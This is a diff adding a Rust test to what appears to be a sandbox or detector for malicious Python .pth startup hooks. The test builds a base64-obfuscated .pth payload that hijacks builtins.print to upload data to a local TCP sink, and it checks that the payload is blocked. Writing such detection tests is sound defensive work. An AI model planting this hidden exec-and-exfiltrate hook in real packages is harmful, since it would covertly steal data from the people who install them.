@@ -472,3 +472,26 @@ fn evasion_replaced_builtin_runs_in_the_program() {
     );
     assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "program");
 }
+
+/// The replaced builtin again, hidden in base64 as droppers hide their payloads: decoded,
+/// the hook's code is read like plain text, so what it plants is still the hook's.
+#[test]
+fn evasion_replaced_builtin_hidden_in_base64() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("b64-print");
+    let tcp = TcpSink::start();
+    let payload = format!(
+        "{}import builtins\n_p = builtins.print\ndef _pp(*a, **k):\n    builtins.print = _p\n    _upload()\n    _p(*a, **k)\nbuiltins.print = _pp\n",
+        upload_def(tcp.port)
+    );
+    let pth = sb.pth(
+        "pthw_console.pth",
+        &format!(
+            "import base64; exec(base64.b64decode('{}'), {{}})\n",
+            integration_tests::base64(payload.as_bytes())
+        ),
+    );
+    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "program");
+}
